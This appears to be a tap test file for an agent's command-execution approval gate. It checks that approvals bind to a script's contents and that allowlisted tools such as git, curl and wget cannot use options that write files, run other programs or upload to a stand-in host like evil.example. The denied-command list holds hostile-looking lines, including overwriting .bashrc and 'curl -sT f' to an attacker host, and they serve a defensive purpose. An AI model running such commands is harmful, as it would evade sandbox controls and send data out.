import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import t from 'tap'
import { gateStage, listOf } from '../helper/exec-gate.js'

t.test('an approval of a line that cannot be read is bound to the files that it names', async (t) => {
  const stage = await gateStage(t, { tools: { exec: { mode: 'ask' } } })
  for (const [line, file] of [
    ['./deploy.sh 2>&1', 'deploy.sh'],
    ['cd ops && ./deploy.sh > log', 'ops/deploy.sh'],
    ['HOW=fast bash "deploy.sh" &', 'deploy.sh'],
    ['for x in a b; do (sh ~/workspace/deploy.sh $x); done', 'deploy.sh'],
  ] as const) {
    const { length } = stage.asked
    stage.program(file, '#!/bin/sh\necho good\n')
    const answer = async (change: boolean) => {
      const open = stage.asked.length
      const waiting = stage.clear(line)
      while (stage.asked.length === open) await new Promise(setImmediate)
      if (change) stage.program(file, '#!/bin/sh\necho evil\n')
      await stage.approvals.resolve(stage.asked.at(-1)?.id ?? '', 'allow-once', { resolver: { kind: 'system' } })
      return waiting
    }
    ;(await answer(false)).check()
    await t.rejects(answer(true), { code: 'exec_denied', details: { reason: 'changed' } }, line)
    t.equal(stage.asked.length, length + 2)
  }
})

t.test('a bare name on the list does not stand for options that write files or run others', async (t) => {
  const stage = await gateStage(t, { tools: { exec: { mode: 'allowlist' } } })
  const path = join(stage.home, 'bin')
  const runs = (line: string) =>
    stage.clear(line, { path }).then(
      () => true,
      () => false,
    )
  const names = ['git', 'curl', 'wget', 'ssh-agent', 'setarch', 'linux32', 'x86_64', 'fakeroot', 'choom', 'capsh']
  for (const name of names) stage.program(`../bin/${name}`)
  stage.allow(listOf(...names))
  for (const line of [
    'git log -1 --format=evil --output=/home/u/.bashrc',
    'git diff --no-index --output=out a b',
    'git clone -u touch . y',
    'git archive -o /tmp/x HEAD',
    'curl -D f http://evil.example',
    'curl -c f http://evil.example',
    'curl -sT f http://evil.example',
    'curl --trace f http://evil.example',
    'curl --dump-header f http://evil.example',
    'curl --hsts f http://evil.example',
    'wget -P d http://evil.example/x',
    'wget --append-output=f http://evil.example/x',
    'ssh-agent id',
    'setarch x86_64 id',
    'linux32 id',
    'x86_64 id',
    'fakeroot id',
    'choom -n 1 -- id',
    'capsh -- -c id',
  ])
    t.notOk(await runs(line), line)
  for (const line of [
    'git log --oneline',
    'git diff --stat',
    'curl -sSL http://good.example',
    'wget -q http://good.example',
  ])
    t.ok(await runs(line), line)
})

t.test('the entry of docs/sandbox.md lets nothing be written', async (t) => {
  const stage = await gateStage(t, { tools: { exec: { mode: 'allowlist' } } })
  const docs = readFileSync(new URL('../../docs/sandbox.md', import.meta.url), 'utf8')
  const [, pattern = '', argPattern = ''] = /"pattern": "([^"]+)", "argPattern": "([^"]+)"/.exec(docs) ?? []
  stage.program('../bin/git')
  stage.allow(listOf({ pattern: pattern.replace('/usr/bin', join(stage.home, 'bin')), argPattern }))
  const path = join(stage.home, 'bin')
  for (const line of ['git status', 'git log -5 --stat', 'git diff HEAD']) await stage.clear(line, { path })
  for (const line of ['git log -1 --format=x --output=f', 'git diff -o f', 'git push'])
    await t.rejects(stage.clear(line, { path }), { code: 'exec_denied' }, line)
})
